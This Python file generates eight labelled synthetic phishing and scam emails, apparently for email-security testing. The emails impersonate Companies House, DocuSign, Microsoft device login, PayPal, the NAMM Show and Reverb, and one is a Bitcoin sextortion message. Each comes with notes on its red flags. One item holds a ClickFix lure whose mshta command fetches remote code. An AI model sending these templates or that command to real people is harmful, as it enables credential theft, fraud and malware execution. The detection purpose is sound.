"""English attack messages (09-16)."""
from common import *  # noqa: F401,F403


def a09():
    link = "https://find-and-update.companieshouse-filing.uk/company/10483257/confirmation-statement?ref=CS01-7741"
    txt = D("""
        Companies House

        Company name: EXAMPLE GROUP UK LTD
        Company number: 10483257

        Dear Director,

        Our records show that the confirmation statement for EXAMPLE GROUP UK LTD, with a made up date of 21 September 2026, has not been delivered to the registrar.

        Under the Economic Crime and Corporate Transparency Act 2023, the identity of every director must be verified before a confirmation statement can be accepted. If the statement is not delivered within 14 days of this notice, the registrar may begin action to strike the company off the register under section 1000 of the Companies Act 2006.

        To verify your identity and file the statement, sign in to the Companies House service and pay the filing fee of £50:
        %s

        You will need your company authentication code and the email address and password of your Companies House account.

        Yours faithfully,

        Registrar of Companies for England and Wales
        Companies House, Crown Way, Cardiff, CF14 3UZ

        This is an automated email. Please do not reply.
        """) % link
    h = html_simple(D("""
        <div style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c;max-width:580px">
        <div style="background:#0b0c0c;color:#ffffff;padding:10px 15px;font-weight:bold;font-size:20px">Companies House</div>
        <div style="border-bottom:10px solid #1d70b8"></div>
        <p style="margin-top:20px">Company name: <b>EXAMPLE GROUP UK LTD</b><br>Company number: <b>10483257</b></p>
        <p>Dear Director,</p>
        <p>Our records show that the confirmation statement for EXAMPLE GROUP UK LTD, with a made up date of 21 September 2026, has not been delivered to the registrar.</p>
        <p>Under the Economic Crime and Corporate Transparency Act 2023, the identity of every director must be verified before a confirmation statement can be accepted. If the statement is not delivered within <b>14 days</b> of this notice, the registrar may begin action to strike the company off the register under section 1000 of the Companies Act 2006.</p>
        <p><a href="%s" style="background:#00703c;color:#ffffff;padding:8px 14px;text-decoration:none;font-weight:bold">Verify identity and file now</a></p>
        <p>You will need your company authentication code and the email address and password of your Companies House account. Filing fee: &pound;50.</p>
        <p>Yours faithfully,<br>Registrar of Companies for England and Wales<br>Companies House, Crown Way, Cardiff, CF14 3UZ</p>
        <p style="font-size:13px;color:#505a5f">This is an automated email. Please do not reply.</p>
        </div>""") % link, "utf-8", "Companies House")
    return Msg("09-en-companies-house-confirmation-statement", "attack",
               ("Companies House", "noreply@companieshouse-filing.uk"), [S("bennett")],
               "Confirmation statement overdue – EXAMPLE GROUP UK LTD (10483257)",
               ("UK", 2026, 10, 8, 9, 41, 3), ("ses", dict(region="eu-west-1")),
               alt(text(txt, "utf-8", "quoted-printable"), html(h, "utf-8", "quoted-printable")),
               name_cs="utf-8", name_enc="Q",
               what="Regulator credential/payment phishing: 'Companies House' claims the confirmation statement is overdue, threatens strike-off and asks to sign in and pay.",
               why="companieshouse-filing.uk is not a gov.uk domain; sent through Amazon SES; harvests the authentication code, account password and card details; strike-off threat and 14-day deadline; piggybacks on the new director ID-verification rules.",
               techniques=["regulator impersonation (Companies House)", "credential and card phishing", "bulk ESP abuse (Amazon SES)"])


def a10():
    url = "https://docusign-secure-view.net/envelope/7f3a9c21?e=cHJpeWEuc2hhaEBleGFtcGxlLmNvbQ"
    svg = D("""
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="420" viewBox="0 0 600 420">
          <rect width="600" height="420" fill="#f4f4f4"/>
          <rect x="40" y="30" width="520" height="360" fill="#ffffff" stroke="#d9d9d9"/>
          <text x="70" y="80" font-family="Arial" font-size="26" font-weight="bold" fill="#1e1e1e">DocuSign</text>
          <rect x="40" y="100" width="520" height="110" fill="#1e4ca1"/>
          <text x="300" y="145" font-family="Arial" font-size="17" fill="#ffffff" text-anchor="middle">Accounts Payable sent you a document to review and sign.</text>
          <a xlink:href="%s" href="%s" target="_blank">
            <rect x="215" y="160" width="170" height="36" rx="3" fill="#ffc820"/>
            <text x="300" y="184" font-family="Arial" font-size="14" font-weight="bold" fill="#1e1e1e" text-anchor="middle">REVIEW DOCUMENT</text>
          </a>
          <text x="70" y="250" font-family="Arial" font-size="14" fill="#333333">Remittance_Advice_EGUK_Q4-2026.pdf</text>
          <text x="70" y="275" font-family="Arial" font-size="13" fill="#666666">Please review the payment schedule for Q4 2026 and confirm.</text>
          <text x="70" y="340" font-family="Arial" font-size="11" fill="#999999">Do Not Share This Email. This document contains a secure link to DocuSign.</text>
          <text x="70" y="358" font-family="Arial" font-size="11" fill="#999999">Envelope ID: 7F3A9C21-48B0-4E65-9D1A-03C5E7B2F914</text>
        </svg>""") % (url, url)
    body = D("""
        Hello Priya,

        Please find attached the remittance advice and payment schedule for Q4 2026. Open the attached secure document to review and sign.

        Regards,
        Accounts Payable
        Bramley Joinery Ltd
        """)
    return Msg("10-en-docusign-svg-remittance", "attack",
               ("DocuSign Electronic Signature", "accounts@bramley-joinery.co.uk"), [S("shah")],
               "Please DocuSign: Remittance_Advice_EGUK_Q4-2026.pdf",
               ("UK", 2026, 11, 3, 13, 27, 55),
               ("exim", dict(host="cp21.ukwebhost-vps.net", ip="185.199.62.21", client_ip="91.92.241.13",
                             mua="roundcube")),
               mixed(text(body, "us-ascii", "7bit"), svg_att(svg, "Remittance_Advice_EGUK_Q4-2026.svg")),
               name_cs="utf-8", name_enc="Q",
               what="SVG attachment phishing: DocuSign-styled SVG 'remittance advice' whose REVIEW DOCUMENT button links to a credential page; sent from a compromised joinery's mailbox.",
               why="DocuSign never sends documents as SVG attachments; the sender is an unrelated small company's cPanel mailbox used via webmail from a foreign IP; the link goes to docusign-secure-view.net with the recipient's address base64-encoded.",
               techniques=["SVG attachment with embedded link", "DocuSign impersonation", "compromised small-business mailbox"])


def a11():
    body = D("""
        Hi Oliver,

        Hope all's well on Denmark Street. As discussed at the dealer day, I've put our Q1 2027 pre-order (Valencia C-40 and C-60, plus the student violin outfits) together with the revised price sheet in a secure Teams workspace - our finance people won't let me send pricing as an attachment any more.

        Because you're outside our tenant, Microsoft asks for a one-time device verification:

        1. Go to https://microsoft.com/devicelogin
        2. Enter the code: LQ8ZK3FXN
        3. Sign in with your Example Group account when prompted

        The code is only valid for 15 minutes, so if it has expired just drop me a line and I'll generate a new one.

        Cheers,
        James

        James Whitfield
        Harbour Guitars Ltd
        Bristol
        """)
    return Msg("11-en-device-code-teams-preorder", "attack",
               ("James Whitfield", "j.whitfield.harbourguitars@outlook.com"), [S("bennett")],
               "Q1 2027 pre-order & price list – shared via Teams",
               ("UK", 2026, 11, 18, 16, 5, 17),
               ("m365", dict(org="outlook.com", consumer=True, lang="en-GB", obe="EUR05-AM6-obe",
                             eop_ip="40.92.58.21", eop_name="mail-am6eur05olkn2021.outbound.protection.outlook.com")),
               alt(text(body, "utf-8", "quoted-printable"), html(html_outlook(body, "utf-8", "EN-GB"), "utf-8", "quoted-printable")),
               name_cs="utf-8", name_enc="Q",
               what="Device-code phishing: a customer contact asks the UK manager to enter a code at microsoft.com/devicelogin to 'open a Teams workspace'.",
               why="Comes from a consumer outlook.com address, not harbourguitars.co.uk (where the real James Whitfield writes from); entering the code at Microsoft's genuine device-login page signs the attacker's session into Oliver's Microsoft 365 account (OAuth device authorization grant abuse).",
               techniques=["device-code phishing (OAuth device flow)", "customer impersonation via freemail"])


def a12():
    inv = "INV2-8QKX-3WZP-7H4D-N2VB"
    link = "https://www.paypal.com/invoice/p/#%s" % inv.replace("-", "")
    txt = D("""
        Secure Billing Services sent you an invoice for $489.99 USD

        Due on receipt

        Note from seller:
        Your annual subscription for Total Security Plus (10 devices) has been renewed and will be charged to your account within 24 hours. If you did not authorise this renewal or would like a refund, call our billing desk on +1 (888) 555-0147 (24/7). Do not pay this invoice online if you want to cancel.

        Invoice details
        Invoice number: 0417
        Amount requested: $489.99 USD

        View and Pay Invoice:
        %s

        Don't recognise this invoice? Don't pay it and report it to PayPal.

        PayPal
        """) % link
    h = html_simple(D("""
        <table width="100%%" cellpadding="0" cellspacing="0" style="font-family:Helvetica,Arial,sans-serif;color:#2c2e2f"><tr><td align="center">
        <table width="600" cellpadding="0" cellspacing="0">
        <tr><td style="padding:24px 0"><span style="font-size:26px;font-weight:bold;color:#003087">PayPal</span></td></tr>
        <tr><td style="font-size:22px;padding-bottom:8px">Secure Billing Services sent you an invoice for <b>$489.99 USD</b></td></tr>
        <tr><td style="color:#6c7378;padding-bottom:16px">Due on receipt</td></tr>
        <tr><td style="background:#f5f7fa;padding:16px"><b>Note from seller:</b><br>Your annual subscription for Total Security Plus (10 devices) has been renewed and will be charged to your account within 24 hours. If you did not authorise this renewal or would like a refund, call our billing desk on <b>+1 (888) 555-0147</b> (24/7). Do not pay this invoice online if you want to cancel.</td></tr>
        <tr><td style="padding:16px 0">Invoice number: 0417<br>Amount requested: $489.99 USD</td></tr>
        <tr><td style="padding-bottom:24px"><a href="%s" style="background:#0070e0;color:#ffffff;padding:10px 28px;border-radius:20px;text-decoration:none;font-weight:bold">View and Pay Invoice</a></td></tr>
        <tr><td style="font-size:12px;color:#6c7378">Don't recognise this invoice? Don't pay it and report it to PayPal.<br>Copyright &copy; 1999-2026 PayPal, Inc. All rights reserved.</td></tr>
        </table></td></tr></table>""") % link, "utf-8", "PayPal")
    return Msg("12-en-paypal-invoice-callback", "attack",
               ("PayPal", "service@paypal.com"), [S("shah")],
               "Secure Billing Services sent you an invoice for $489.99 USD",
               ("PT", 2026, 11, 30, 11, 44, 2), ("paypal", {}),
               alt(text(txt, "utf-8", "quoted-printable"), html(h, "utf-8", "quoted-printable")),
               name_cs="utf-8", name_enc="Q",
               what="Callback phishing (TOAD) delivered through PayPal's genuine invoicing: 'subscription renewed, call this number to cancel'.",
               why="Genuine PayPal infrastructure is abused by a fraudster's merchant account; unsolicited invoice from an unknown 'Secure Billing Services'; the seller note pushes the victim to phone a call centre that will run a refund/remote-access scam.",
               techniques=["callback phishing (TOAD)", "abuse of a genuine service (PayPal invoicing)"])


def a13():
    link = "https://nammshow-reservations.com/exhibitors/confirm?ref=EGX-27-0419"
    txt = D("""
        Dear Felix Bauer,

        Thank you for exhibiting at The NAMM Show 2027 in Anaheim. As housing provider for exhibiting companies, we have reserved a room block for Example Group at the Anaheim Marriott and the Hilton Anaheim at the discounted show rate of USD 289 per night (4 rooms, arrival January 20, departure January 25, 2027).

        Exhibitor room blocks that are not confirmed by November 20, 2026 will be released to the general attendee pool. Hotels in the Anaheim Resort district are expected to sell out during show week.

        To secure your rooms, please send us your rooming list (guest names, arrival and departure dates) and confirm the one-night deposit per room through our secure portal:
        %s

        Group reservation reference: EGX-27-0419

        Kind regards,

        Rebecca Lawson
        Exhibitor Housing Services
        The NAMM Show 2027 - Anaheim, CA
        """) % link
    h = html_gmail(txt.replace(link, "[link]")).replace("[link]", '<a href="%s">%s</a>' % (link, link))
    return Msg("13-en-namm-show-housing-scam", "attack",
               ("NAMM Show Housing", "housing@nammshow-reservations.com"), [S("bauer")],
               "The NAMM Show 2027 – Exhibitor room block for Example Group: confirm by Nov 20",
               ("PT", 2026, 11, 10, 7, 22, 41), ("mailgun", dict(mgdomain="mg.nammshow-reservations.com")),
               alt(text(txt, "utf-8", "quoted-printable"), html(html_simple(h, "utf-8"), "utf-8", "quoted-printable")),
               name_cs="utf-8", name_enc="Q",
               what="Trade-show housing scam: a 'NAMM Show housing provider' asks the sales manager to confirm a hotel block and pay deposits before a deadline.",
               why="Look-alike domain nammshow-reservations.com sent via Mailgun; unsolicited room block, deadline and deposit through a third-party portal – a known fraud against trade-show exhibitors (the organiser warns about unofficial housing companies).",
               techniques=["trade-show housing scam", "bulk ESP abuse (Mailgun)", "payment-card harvesting"])


def a14():
    btc = B.bech32_segwit_v0("a14-extortion")
    body = D("""
        Hello!

        I have to share bad news with you.
        Some months ago I gained access to the devices you use for browsing the internet. Since then I have been watching your internet activity.

        Here is how it happened:
        I bought access to a large number of email accounts from hackers (today this is very simple to do). I was able to log in to your mailbox (oliver.bennett@example.com) without any problem.
        One week later I installed a Trojan on the operating system of all the devices you use to access your email. It gives me full access to your camera, microphone, screen and keyboard.

        I have collected all your contacts, your messages and the history of the websites you visit. I also made video recordings of you while you were watching adult websites. One click, and these videos will be sent to all your colleagues, business partners and family.

        I think you do not want this to happen. Transfer exactly 1450 USD in Bitcoin to my wallet:

        %s

        If you do not know how to do this, search Google for "how to buy bitcoin".

        After the payment I will delete the videos and remove the Trojan. You have 48 hours from the moment you open this email. I receive a notification when you read it.
        Do not reply to this email and do not contact the police - I will know it immediately, and the files will be published.
        """) % btc
    return Msg("14-en-sextortion-bitcoin", "attack",
               ("oliver.bennett@example.com", "oliver.bennett@example.com"), [S("bennett")],
               "Security notice: your account oliver.bennett@example.com has been compromised",
               ("ICT", 2026, 11, 28, 10, 17, 9),
               ("postfix", dict(host="static.vnpt.vn", ip="113.172.45.18", rdns="unknown", helo="static.vnpt.vn",
                                tls=None, mua=None, msgid_domain="example.com")),
               text(body, "us-ascii", "7bit"),
               mail_from="oliver.bennett@example.com", name_cs="utf-8",
               what="Sextortion: claims malware and webcam recordings, demands USD 1,450 in Bitcoin within 48 hours.",
               why="Spoofs the recipient's own address from a Vietnamese residential IP without TLS; generic extortion template with a Bitcoin address (valid bech32), threats and a deadline; no real compromise.",
               techniques=["extortion / sextortion with Bitcoin address", "own-address spoofing"])


def a15():
    cmd = "mshta https://cdn-docverify.com/v/77412.mp4 # \u2705 I am not a robot - Cloudflare Verification ID: 8d2f-91c7"
    page = html_simple(D("""
        <div style="font-family:-apple-system,'Segoe UI',Roboto,Arial,sans-serif;max-width:520px;margin:60px auto;color:#313131">
        <h2 style="font-weight:500">cdn-docverify.com</h2>
        <p style="font-size:18px">Verify you are human by completing the action below.</p>
        <div style="border:1px solid #d9d9d9;padding:18px;background:#fafafa">
        <p><b>Remittance_BACS-77412.pdf</b> is protected. To open the document, complete the verification:</p>
        <ol style="line-height:1.8">
        <li>Press <b>Windows</b> + <b>R</b></li>
        <li>Click into the box below, press <b>Ctrl</b> + <b>A</b> and <b>Ctrl</b> + <b>C</b>, then paste into the window with <b>Ctrl</b> + <b>V</b></li>
        <li>Press <b>Enter</b></li>
        </ol>
        <textarea readonly rows="3" style="width:100%%;font-family:Consolas,monospace;font-size:12px">%s</textarea>
        </div>
        <p style="font-size:12px;color:#888888">Performance &amp; security by Cloudflare &middot; Ray ID: 8d2f91c7a4e05b31</p>
        </div>""") % esc(cmd), "utf-8", "Just a moment...")
    body = D("""
        Good morning,

        Please find attached the remittance advice for the BACS payment released today.

        Payment reference: 77412
        Amount: GBP 18,460.00

        Kind regards,

        Accounts Payable
        Fenwick Interiors Ltd
        """)
    return Msg("15-en-clickfix-remittance-html", "attack",
               ("Fenwick Interiors - Accounts Payable", "accounts@fenwick-interiors.co.uk"), [S("shah")],
               "Remittance advice – BACS payment ref. 77412 (GBP 18,460.00)",
               ("UK", 2026, 12, 3, 10, 48, 26),
               ("m365", dict(org="fenwick-interiors.co.uk", region="eurprd03", lang="en-GB",
                             obe="EUR01-HE1-obe", eop_ip="40.107.7.89")),
               mixed(alt(text(body, "utf-8", "quoted-printable"),
                         html(html_outlook(body, "utf-8", "EN-GB"), "utf-8", "quoted-printable")),
                     html_att(page, "Remittance_BACS-77412.html")),
               name_cs="utf-8", name_enc="Q",
               what="ClickFix: 'remittance advice' HTML attachment showing a fake Cloudflare check that tells the user to paste an mshta command into Win+R.",
               why="Unknown payer (no business relationship with Fenwick Interiors, mailbox likely compromised); remittance delivered as HTML; the page instructs the user to run mshta with a remote URL – execution of attacker code by the victim. The attachment contains no script itself.",
               techniques=["ClickFix (paste-and-run command)", "HTML attachment", "compromised Microsoft 365 tenant"])


def a16():
    link = "https://reverb-sellerhub.com/my/payouts/verify?shop=example-music-outlet&t=9d41c7"
    txt = D("""
        Hi Sandra,

        We've placed a temporary hold on payouts for your shop Example Music Outlet because we couldn't verify the bank account linked to Reverb Payments.

        Orders affected: 3
        Pending payout: USD 4,870.00

        To release your payouts, please verify your shop within 48 hours:
        %s

        If we can't verify your shop, your listings will be hidden from search until the review is complete.

        Thanks,
        The Reverb Team
        """) % link
    h = html_simple(D("""
        <div style="font-family:Helvetica,Arial,sans-serif;max-width:560px;color:#333333">
        <div style="font-size:26px;font-weight:bold;color:#f4511e;padding:16px 0">reverb</div>
        <p>Hi Sandra,</p>
        <p>We've placed a temporary hold on payouts for your shop <b>Example Music Outlet</b> because we couldn't verify the bank account linked to Reverb Payments.</p>
        <table style="background:#f7f7f7;padding:12px;width:100%%"><tr><td>Orders affected</td><td align="right">3</td></tr><tr><td>Pending payout</td><td align="right"><b>USD 4,870.00</b></td></tr></table>
        <p>To release your payouts, please verify your shop within <b>48 hours</b>.</p>
        <p><a href="%s" style="background:#f4511e;color:#ffffff;padding:10px 20px;text-decoration:none;border-radius:3px">Verify my shop</a></p>
        <p>If we can't verify your shop, your listings will be hidden from search until the review is complete.</p>
        <p>Thanks,<br>The Reverb Team</p>
        </div>""") % link, "utf-8", "Reverb")
    return Msg("16-en-reverb-payout-hold", "attack",
               ("Reverb", "seller-support@reverb-sellerhub.com"), [S("engel")],
               "Action needed: payouts for Example Music Outlet are on hold",
               ("PT", 2026, 10, 23, 8, 30, 14), ("sendgrid", dict(domain="reverb-sellerhub.com")),
               alt(text(txt, "utf-8", "quoted-printable"), html(h, "utf-8", "base64")),
               name_cs="utf-8", name_enc="Q",
               what="Trade-portal phishing: 'Reverb' marketplace says shop payouts are on hold and asks the e-commerce manager to verify the shop.",
               why="reverb-sellerhub.com is not reverb.com; sent via a shared SendGrid account; money-on-hold pretext with a 48-hour deadline leads to a seller-account/bank credential harvest.",
               techniques=["trade-specific portal phishing (music marketplace)", "bulk ESP abuse (SendGrid)"])


def messages():
    return [a09(), a10(), a11(), a12(), a13(), a14(), a15(), a16()]
